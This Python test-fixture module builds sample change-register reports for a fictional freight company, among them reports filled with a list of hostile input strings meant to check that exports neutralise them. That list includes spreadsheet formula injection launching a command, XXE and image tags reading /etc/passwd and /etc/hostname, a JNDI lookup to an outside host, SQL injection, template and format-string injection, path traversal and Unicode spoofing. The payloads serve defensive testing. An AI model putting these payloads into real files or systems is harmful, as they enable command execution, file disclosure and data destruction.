"""Reports for the tests of this folder: an ordinary one, a long one, and one made of hostile text."""

from __future__ import annotations

import io
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from typing import Any

from PIL import Image, ImageDraw

from chgdesk.exports.columns import Column, Kind, State, Tone
from chgdesk.exports.report import (
    Block,
    Fact,
    Facts,
    Figure,
    FileRow,
    Files,
    Grid,
    Heading,
    Notice,
    NoticeKind,
    PageBreak,
    RegisterHead,
    Report,
    ReportMeta,
    Run,
    RunMark,
    Signature,
    Signatures,
    Table,
    Text,
)

WARNINGS = (
    "Time set by the operator (--fixed-time 2026-10-05T09:00:00Z)",
    "What-if values: emergency.record_deadline=48h",
    "Not reviewed by a person",
    "Fictional sample company",
)
SYSTEMS = ("Tariff service", "edge-lb", "Customs gateway")
TITLES = (
    "Raise the connection limit of the tariff service and restart the workers",
    "Rotate the key of the customs gateway",
    "Replace the edge certificate; checked against https://staging.example.org/tariffs/v2/health?deep=true",
)
STATES = tuple(State(word=f"in state {tone.value}", tone=tone) for tone in Tone)

HOSTILE: tuple[str, ...] = (
    "=1+1", "+1", "-1", "@SUM(1)", "=cmd|'/C calc'!A0", '=HYPERLINK("http://x.example","go")', "\t=1+1", "\r=1+1",
    "\n=1+1", " =1+1", "\ufeff=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "'=1+1", "''",
    '<img src="file:///etc/passwd"/>', "<b>bold</b>", "&amp;", "&", "<", ">", "<para>", "</para>", "<br/>",
    '<a href="javascript:alert(1)">x</a>', "<font name='Nope'>x</font>", "<onDraw name='x'/>", "<![CDATA[x]]>",
    "]]>", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/hostname'>]>", "&y;", "&#0;", "{0.__class__}", "%s%n%d",
    "${jndi:ldap://x.example}", "{{7*7}}", "'; DROP TABLE audit_event;--", "%_", "\u202egpj.exe", "\u2066x\u2069",
    "a\u200db\u200cc\u200bd", "so\u00adft", "A\u0410", "e\u0301 é", "x" + "\u0301" * 5000, "\u0000nul", "\u001b[31mred",
    "\u0085\u009b", "\ufffe\uffff", "\ue000\U0010ffff", "\ud800 lone", "😀🇩🇪👩‍💻", "𠀀 CJK B 中文", "مرحبا العربية", "עברית", "हिन्दी",
    "ไทย", "ok\n2026-01-01 INFO approved by CFO", "\u2028line\u2029para", "_x000D_ _x0041_", "(1) Tj ET BT (x", "\\) \\( \\",
    "\\u001b", "CON", "../x", "[a]:b*c?d/e\\f", "History", "&P&N&D", "w" * 40 + "|" * 40, " " * 300, "\n" * 30,
    "x" * 10_000, "word " * 2_000, "y" * 32_768, "٣ and １２", "ﷺ", "Ǆ ẞ ı İ ﬁ",
)  # fmt: skip
"""Families 1 to 22 of the bad input to survive, as far as they reach output."""


def png_bytes() -> bytes:
    """A small chart."""
    picture = Image.new("RGB", (320, 120), "white")
    pen = ImageDraw.Draw(picture)
    for at, height in enumerate((30, 60, 45, 90)):
        pen.rectangle((20 + 70 * at, 110 - height, 60 + 70 * at, 110), fill=(31, 78, 121))
    sink = io.BytesIO()
    picture.save(sink, "PNG")
    return sink.getvalue()


def a_meta(**changes: Any) -> ReportMeta:
    """Meta of an ordinary report, with what the test changes."""
    head = RegisterHead(
        size=312,
        root="8c1d77aa" * 8,
        recorded_at=datetime(2026, 10, 4, 17, 12, tzinfo=UTC),
        signed=True,
        tail="63 entries since the code of 28 Jun 2026",
    )
    usual = ReportMeta(
        title="Change register, third quarter 2026",
        kind="register record",
        reference="RPT-2026-0007",
        version="1.0",
        status="Issued",
        classification="Confidential",
        organisation="Alderpoint Freight BV",
        system="Cargo desk",
        period="1 Jul 2026 – 30 Sep 2026",
        generated_at=datetime(2026, 10, 5, 9, tzinfo=UTC),
        zone="Europe/Lisbon",
        generated_by="M. Koster",
        app_version="0.1.0",
        filter="Went live in the period, all systems",
        parameters="policy 2.1, set 3 of 12 Jun 2026",
        record_count=43,
        data_sha256="3f9a11c0" * 8,
        register_head=head,
    )
    return replace(usual, **changes)


def rows(count: int) -> list[dict[str, Any]]:
    """Rows of a register, the same every time."""
    start = datetime(2026, 7, 1, 8, 30, tzinfo=UTC)
    return [
        {
            "no": f"CHG-2026-{at + 1:04d}",
            "what": TITLES[at % 3],
            "system": SYSTEMS[at % 3],
            "day": date(2026, 7, 1) + timedelta(days=at % 90),
            "when": start + timedelta(hours=13 * (at % 170)),
            "by": ("A. Nwosu", "J. Palm, K. Lindqvist")[at % 2],
            "count": at * 7,
            "share": Decimal("97.67"),
            "back": bool(at % 2),
            "state": STATES[at % len(STATES)],
        }
        for at in range(count)
    ]


COLUMNS: tuple[Column, ...] = (
    Column(key="no", title="No.", kind=Kind.REF, value=lambda row: row["no"]),
    Column(key="what", title="What changed", width=40, value=lambda row: row["what"]),
    Column(key="system", title="System", width=16, value=lambda row: row["system"]),
    Column(key="day", title="Day", kind=Kind.DATE, value=lambda row: row["day"]),
    Column(key="when", title="Went live", kind=Kind.DATETIME, utc=True, value=lambda row: row["when"]),
    Column(key="by", title="Approved by", kind=Kind.PERSON, value=lambda row: row["by"]),
    Column(key="count", title="Rests on", kind=Kind.NUMBER, value=lambda row: row["count"]),
    Column(key="share", title="Share", kind=Kind.PERCENT, value=lambda row: row["share"]),
    Column(key="back", title="Rolled back", kind=Kind.FLAG, value=lambda row: row["back"]),
    Column(key="state", title="State", kind=Kind.STATE, value=lambda row: row["state"]),
)


def a_table(count: int, title: str = "Changes") -> Table:
    """A register of so many rows."""
    return Table(title=title, columns=COLUMNS, rows=rows(count))


def a_record(**changes: Any) -> Report:
    """A report with every kind of block."""
    signed = datetime(2026, 10, 4, 15, tzinfo=UTC)
    enrolled = "Signed at this desk with the passphrase enrolled for M. Koster on 3 Mar 2026"
    blocks: tuple[Block, ...] = (
        Heading(text="In five sentences"),
        Facts(
            rows=(
                Fact(label="What", value="Raise the limit", basis="export of 10 Jul 2026", source="PR 1184"),
                Fact(label="Why", value="", basis=None),
            )
        ),
        Notice(kind=NoticeKind.LOOK, title="Approved after go-live.", text="Clause 6.3 asks for it before."),
        Notice(kind=NoticeKind.OPEN, title="Review due Mon 27 Jul 2026"),
        Notice(kind=NoticeKind.EXPLAINED, title="Service account", text="Explained by M. Koster."),
        Notice(kind=NoticeKind.INFO, title="Two tests do not apply."),
        Heading(text="Notes", level=3),
        Text(
            runs=(
                Run(text="Plain, "),
                Run(text="bold", bold=True),
                Run(text=", "),
                Run(text="italic", italic=True),
                Run(text=" both", bold=True, italic=True),
                Run(text=" mono", mono=True),
                Run(text=" strong", mono=True, bold=True),
                Run(text=" muted Αθήνα Москва Łódź", muted=True),
            )
        ),
        Text(runs=(Run(text="An item"),), marker="•", indent=1),
        Text(runs=(Run(text="Small print"),), small=True),
        Text(runs=(Run(text="old", mark=RunMark.REMOVED), Run(text=" "), Run(text="new", mark=RunMark.ADDED))),
        Grid(
            head=((Run(text="Role"),), (Run(text="May"),)),
            rows=(((Run(text="CTO"),), (Run(text="approve", bold=True),)),),
        ),
        PageBreak(),
        Figure(png=png_bytes(), caption="Changes per month."),
        a_table(5),
        Table(title="Emergency changes", columns=COLUMNS[:3], rows=()),
        Files(
            rows=(
                FileRow(name="pull_request.pdf", kind="pull request", size=182_233, sha256="ab12" * 16),
                FileRow(name="ci_results.pdf", held=False, note="never collected"),
            )
        ),
        Signatures(
            rows=(
                Signature(
                    person="M. Koster",
                    role="Compliance officer",
                    meaning="reviewed as written",
                    signed_at=signed,
                    statement=enrolled,
                    digest="77aa" * 16,
                ),
                Signature(person="K. Lindqvist", role="CTO", meaning="approves"),
            )
        ),
    )
    return Report(meta=a_meta(**changes), blocks=blocks)


def a_hostile_report(payload: str) -> Report:
    """A report whose every text is the payload."""
    column = Column(key="x", title=payload, value=lambda row: row)
    stated = Column(key="s", title="State", kind=Kind.STATE, value=lambda row: State(word=row, tone=Tone.LOOK))
    meta = a_meta(
        title=payload,
        kind=payload,
        reference=payload,
        version=payload,
        status=payload,
        classification=payload,
        organisation=payload,
        system=payload,
        period=payload,
        generated_by=payload,
        app_version=payload,
        filter=payload,
        parameters=payload,
        data_sha256=payload,
        warnings=(payload,),
    )
    blocks: tuple[Block, ...] = (
        Heading(text=payload),
        Text(
            runs=(Run(text=payload), Run(text=payload, bold=True), Run(text=payload, mono=True)),
            marker=payload[:9],
        ),
        Facts(rows=(Fact(label=payload, value=payload, basis=payload, source=payload),), title=payload),
        Table(title=payload, columns=(column, stated), rows=(payload, "plain"), empty=payload),
        Table(title=payload, columns=(column,), rows=(), empty=payload),
        Grid(title=payload, head=((Run(text=payload),),), rows=(((Run(text=payload), Run(text=payload, bold=True)),),)),
        Figure(png=b"not a picture", caption=payload),
        Files(rows=(FileRow(name=payload, kind=payload, sha256=payload, note=payload),), title=payload),
        Signatures(
            rows=(Signature(person=payload, role=payload, meaning=payload, statement=payload, digest=payload),),
            title=payload,
            note=payload,
        ),
        Notice(kind=NoticeKind.LOOK, title=payload, text=payload),
    )
    return Report(meta=meta, blocks=blocks)
